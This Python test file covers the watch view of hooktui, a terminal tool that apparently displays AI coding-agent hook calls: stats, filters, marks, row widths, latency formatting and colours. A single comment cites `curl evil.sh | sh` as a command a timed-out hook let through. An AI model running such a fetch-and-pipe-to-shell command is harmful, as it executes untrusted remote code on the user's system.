"""The watch model without an app: lines, filtering, marks, stats, resets; and the row layout."""

from __future__ import annotations

import math
import re
from datetime import UTC

from hooktui.tap.model import HookInfo, decode_head, encode_record
from hooktui.tap.read.decode import decode_head as reader_decode_head
from hooktui.tap.read.filter import compile_filter
from hooktui.tap.read.index import batch_of, merge_batches
from hooktui.tap.read.merge import parse_ts
from hooktui.tap.read.view import CallView, StreamLine
from hooktui.tui.present.format import (
    format_latency,
    latency_style,
    near_timeout,
    one_line,
    sparkline,
)
from hooktui.tui.present.rows import call_row, columns_for, header_row

from tests.tui.conftest import make_record, varied_records
from tests.waits import join


def _heads(records):
    items, offset = [], 0
    for r in records:
        line = encode_record(r)
        items.append((offset, decode_head(line)))
        offset += len(line)
    return items


def _batch(records, source=0):
    return batch_of(source, _heads(records))


def _lines(records):
    """The view's handle on each record's line, as the list gets it for a row."""
    return [StreamLine(0, offset, head) for offset, head in _heads(records)]


def _view(records=None) -> CallView:
    view = CallView(["s.jsonl"])
    view.replace_all(_batch(records if records is not None else varied_records()))
    return view


def test_stats_count_decisions_failures_and_fail_open() -> None:
    view = _view()
    stats = view.stats
    assert stats.decisions["allow"] == 2
    assert stats.decisions["deny"] == 1
    assert stats.failures == 2
    assert stats.fail_open == 1  # the timeout that let `curl evil.sh | sh` through
    assert stats.calls == 8


def test_percentiles_are_nearest_rank() -> None:
    view = _view([make_record(i, duration_ms=float(i + 1)) for i in range(100)])
    assert view.stats.percentile(50) == 50.0
    assert view.stats.percentile(95) == 95.0
    assert CallView(["x"]).stats.percentile(50) is None


def test_calls_per_minute_end_at_the_newest_call() -> None:
    # make_record spaces calls 7 s apart: 9 calls span 56 s from 01:59:00.
    view = _view([make_record(i) for i in range(9)])
    per_minute = view.stats.per_minute(3)
    assert per_minute == [0, 0, 9]
    view.add(_batch([make_record(9)]))  # 02:00:03: a new minute
    assert view.stats.per_minute(3) == [0, 9, 1]


def test_filter_and_stats_follow_it() -> None:
    view = _view()
    refreshed = []
    view.on_refresh.append(lambda: refreshed.append(True))
    view.set_predicate("decision:failure", compile_filter("decision:failure"))
    assert [view.line(i).head.id for i in range(len(view))] == ["call-00005", "call-00006"]
    assert view.stats.calls == 2 and view.stats.fail_open == 1
    assert view.total == 8
    assert refreshed
    view.set_predicate("", None)
    assert len(view) == 8


def test_new_entries_go_through_the_filter() -> None:
    view = _view()
    view.set_predicate("tool:Edit", compile_filter("tool:Edit"))
    added = []
    view.on_added.append(lambda first, count: added.append((first, count)))
    assert view.add(_batch([make_record(20, tool_name="Edit"), make_record(21)])) == 1
    assert added == [(1, 1)]
    assert len(view) == 2 and view.total == 10


def test_bad_lines_show_only_unfiltered() -> None:
    view = _view()
    bad = reader_decode_head(b"not json", 9999)
    view.add(batch_of(0, [(9999, bad)]))
    assert view.stats.bad == 1
    assert view.line(len(view) - 1).is_bad
    view.set_predicate("tool:Bash", compile_filter("tool:Bash"))
    assert all(not view.line(i).is_bad for i in range(len(view)))


def test_marks_survive_filtering_and_marked_only() -> None:
    view = _view()
    assert view.toggle_mark(1) is True
    assert view.toggle_mark(3) is True
    view.set_marked_only(True)
    assert [view.line(i).head.id for i in range(len(view))] == ["call-00001", "call-00003"]
    view.set_marked_only(False)
    assert view.is_marked(view.line(1))
    assert view.toggle_mark(1) is False
    assert [e.head.id for e in view.marked_lines()] == ["call-00003"]


def test_reset_source_drops_only_that_stream() -> None:
    view = CallView(["a", "b"])
    a = _batch([make_record(0), make_record(2)], source=0)
    b = _batch([make_record(1), make_record(3)], source=1)
    view.replace_all(merge_batches([a, b]))
    view.toggle_mark(0)  # in stream a
    view.toggle_mark(1)  # in stream b
    view.reset_source(1, _batch([make_record(5)], source=1))
    assert [view.line(i).head.id for i in range(len(view))] == [
        "call-00000",
        "call-00002",
        "call-00005",
    ]
    assert view.marks == {(0, a.offset[0])}


def test_row_of_finds_a_shown_line() -> None:
    view = _view()
    key = view.line(4).key
    view.set_predicate("replace", compile_filter("decision:replace"))
    assert view.row_of(key) == 0
    assert view.row_of((0, 123456)) is None


def test_rows_are_exactly_the_width_and_carry_the_markers() -> None:
    lines = _lines(varied_records())
    for width in (60, 80, 120, 200):
        assert len(header_row(width).plain) == width
        for line in lines:
            row = call_row(line, width, UTC, marked=False)
            assert row.cell_len == width
    fail_open = call_row(lines[5], 120, UTC, marked=True).plain
    assert fail_open.startswith("●")
    assert "⚠ timeout" in fail_open  # what failed, as show says it
    assert "◷5.00s" in fail_open  # timed out: at its timeout
    slow = call_row(lines[7], 120, UTC, marked=False).plain
    assert "◷850ms" in slow  # 85% of its 1 s timeout
    fast = call_row(lines[0], 120, UTC, marked=False).plain
    assert "◷" not in fast and "01:59:00" in fast


def test_narrow_rows_drop_columns_not_the_decision() -> None:
    cols = columns_for(80)
    assert cols.runtime == 0 and cols.hook == 0 and cols.summary > 20
    wide = columns_for(200)
    assert wide.runtime and wide.hook and wide.millis


def test_formatting_helpers() -> None:
    assert format_latency(3.24) == "3.2ms"
    assert format_latency(230) == "230ms"
    assert format_latency(5003) == "5.00s"
    assert format_latency(125_000) == "2m05s"
    assert near_timeout(800, 1000) and not near_timeout(799, 1000)
    assert not near_timeout(10_000, None)
    assert latency_style(1) != latency_style(3000)
    assert one_line("a\nb\tc\x1b") == "a⏎b c·"
    assert sparkline([0, 1, 4]) == "▁▂█"  # quiet minutes are the baseline
    assert math.isnan(parse_ts("yesterday"))
    assert parse_ts("2026-03-14T01:59:00Z") == parse_ts("2026-03-14T01:59:00+00:00")


def test_runtime_default_timeout_is_used_when_the_hook_has_none() -> None:
    from hooktui.tap.runtimes import get_adapter

    default = get_adapter("claude-code").default_timeout_ms
    record = make_record(0, duration_ms=(default or 0) * 0.9, hook=HookInfo(label="g"))
    row = call_row(_lines([record])[0], 120, UTC, marked=False).plain
    assert ("◷" in row) == bool(default)


def test_rows_and_detail_times_survive_extreme_timestamps(monkeypatch) -> None:
    # The shared parse and format functions: watch's rows go through them too.
    from hooktui.tui.present.format import format_datetime, format_time

    monkeypatch.setenv("TZ", "Asia/Tokyo")
    for ts in ("0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-05:00", "9999-12-31T23:59:59Z"):
        view = _view([make_record(0, ts=ts, duration_ms=1e300), make_record(1)])
        for width in (80, 160):
            call_row(view.line(0), width, None, False)
            call_row(view.line(0), width, UTC, False)
        format_datetime(parse_ts(ts), None)
        shown = format_time(view.line(0).t, None)
        assert shown == "--:--:--" or re.fullmatch(r"\d\d:\d\d:\d\d", shown)


def test_palette_tells_deny_from_modify_by_hue_and_by_symbol() -> None:
    import colorsys

    from hooktui.tui.present.palette import PALETTE, decision_mark, decision_style
    from rich.color import Color

    def hue(name: str) -> float:
        rgb = Color.parse(name).get_truecolor()
        return colorsys.rgb_to_hsv(*(c / 255 for c in rgb))[0] * 360

    gap = abs(hue(PALETTE["deny"].color) - hue(PALETTE["modify"].color))
    assert min(gap, 360 - gap) >= 90  # red against blue, not red against magenta
    symbols = [look.symbol for look in PALETTE.values()]
    assert len(set(symbols)) == len(symbols)  # each decision reads without colour
    assert decision_style("deny", color=False).color is None
    assert decision_style("deny", color=False).bold
    assert decision_mark("failure", True, "timeout") == "⚠ timeout"


def test_watch_streams_read_a_pipe_and_keep_it(tmp_path) -> None:
    # `watch <(cat s.jsonl)`: the tailer used to take a pipe's size 0 for a
    # truncation and reset the view to empty after the load.
    import os
    import threading

    from hooktui.tui.app.live import LiveStreams
    from hooktui.tui.app.messages import StreamReset

    fifo = tmp_path / "p"
    os.mkfifo(fifo)
    data = b"".join(encode_record(make_record(i)) for i in range(3))

    def writer() -> None:
        with open(fifo, "wb") as w:
            w.write(data)

    th = threading.Thread(target=writer, daemon=True)
    th.start()
    streams = LiveStreams([str(fifo)])
    loaded = streams.load()
    join(th)
    try:
        assert len(loaded.batch) == 3
        for _ in range(3):
            assert not any(isinstance(m, StreamReset) for m in streams.poll())
    finally:
        streams.close()


def test_the_default_timeout_is_the_runtimes_for_that_event() -> None:
    # A record without a timeout (an older tap's): UserPromptSubmit's hooks get 30 s.
    prompt = make_record(
        0, native_event="UserPromptSubmit", duration_ms=28_000, hook=HookInfo(label="g")
    )
    assert "◷" in call_row(_lines([prompt])[0], 120, UTC, marked=False).plain
    tool = make_record(1, duration_ms=28_000, hook=HookInfo(label="g"))
    assert "◷" not in call_row(_lines([tool])[0], 120, UTC, marked=False).plain
